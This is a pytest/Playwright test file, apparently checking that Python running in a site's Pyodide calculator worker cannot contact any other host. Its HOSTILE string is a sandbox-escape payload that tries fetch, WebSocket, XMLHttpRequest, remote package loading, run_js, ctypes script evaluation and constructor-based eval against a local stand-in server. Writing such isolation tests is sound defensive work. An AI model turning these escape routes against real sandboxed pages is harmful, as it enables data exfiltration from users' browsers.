"""Python in the worker reaches no other host, whatever it runs, though GitHub Pages sends no policy for a worker."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page

from tests.support import built_with, with_module
from tools.serve import SiteServer

# A calculator that tries every way out with every object of JavaScript that Python can get hold of. What it says at its
# end proves that it ran; whether anything got through, the other host knows best.
HOSTILE = """
import gc, sys

ADDRESS = {address!r}
SOCKET = ADDRESS.replace("http", "ws")
SCRIPTS = (
    f"fetch('{{ADDRESS}}fetch')",
    f"new XMLHttpRequest().open('GET', '{{ADDRESS}}request')",
    f"new WebSocket('{{SOCKET}}socket')",
    f"new EventSource('{{ADDRESS}}events')",
    f"new Worker('{{ADDRESS}}worker.js')",
    f"import('{{ADDRESS}}script.js')",
    f"caches.open('x').then(cache => cache.add('{{ADDRESS}}cached'))",
)
STATEMENTS = [
    "import js; js.fetch(ADDRESS + 'js')",
    "import js; js.WebSocket.new(SOCKET + 'js')",
    "from js import XMLHttpRequest as R; r = R.new(); r.open('GET', ADDRESS + 'js-request', False); r.send()",
    "import pyodide_js; pyodide_js.loadPackage(ADDRESS + 'package-1.0-py3-none-any.whl')",
    "from pyodide.http import open_url; open_url(ADDRESS + 'open_url')",
    "import asyncio; from pyodide.http import pyfetch; asyncio.ensure_future(pyfetch(ADDRESS + 'pyfetch'))",
    "import urllib.request; urllib.request.urlopen(ADDRESS + 'urllib')",
    *(f"from pyodide.code import run_js; run_js({{script!r}})" for script in SCRIPTS),
    *(f"import ctypes; ctypes.CDLL(None).emscripten_run_script({{script.encode()!r}})" for script in SCRIPTS),
]


def tried(way):
    try:
        way()
    except Exception:
        pass


for statement in STATEMENTS:
    tried(lambda: exec(statement, globals()))

modules = list(sys.modules.values())
pending = gc.get_objects() + modules + [
    value for module in modules for value in list(getattr(module, "__dict__", {{}}).values())
]
found = {{id(value): value for value in pending if hasattr(type(value), "js_id")}}
for value in list(found.values()):
    for name in ("constructor", "__proto__", "prototype"):
        tried(lambda: found.setdefault(id(getattr(value, name)), getattr(value, name)))
for value in list(found.values()):
    tried(lambda: value.fetch(ADDRESS + "found"))
    for script in SCRIPTS:
        tried(lambda: value.constructor(script)())
        tried(lambda: value.constructor.constructor(script)())
        tried(lambda: value.setTimeout(script))
raise LookupError(f"tried everything, {{len(found)}} objects of JavaScript among it")
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Start another host, which lets everybody in; return its address and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield f"http://localhost:{server.server_port}/", asked
        server.shutdown()


@pytest.mark.parametrize("boot", ["snapshot", "plain"])
def test_python_reaches_no_other_host(
    plain_page: Page, server: SiteServer, elsewhere: tuple[str, list[str]], boot: str
) -> None:
    """Not through a module, nor through an object of JavaScript that it finds, nor by a text that becomes a script."""
    address, asked = elsewhere

    hostile = with_module("group-metrics", "calculators/metrics/win_rate", HOSTILE.format(address=address))
    plain_page.context.route("**/group-metrics-*", lambda route: route.fulfill(body=hostile))
    plain_page.context.route("**/calculator_worker-*", built_with({"group-metrics": hostile}))
    if boot == "plain":
        plain_page.context.route("**/snapshot-*", lambda route: route.fulfill(status=404))
    plain_page.goto(f"{server.address}metrics/win-rate/")
    with plain_page.expect_console_message(lambda message: "tried everything" in message.text):
        plain_page.locator("playbook-calculator input").first.fill("7")
    plain_page.wait_for_timeout(500)  # what was started would have arrived by now
    assert asked == []
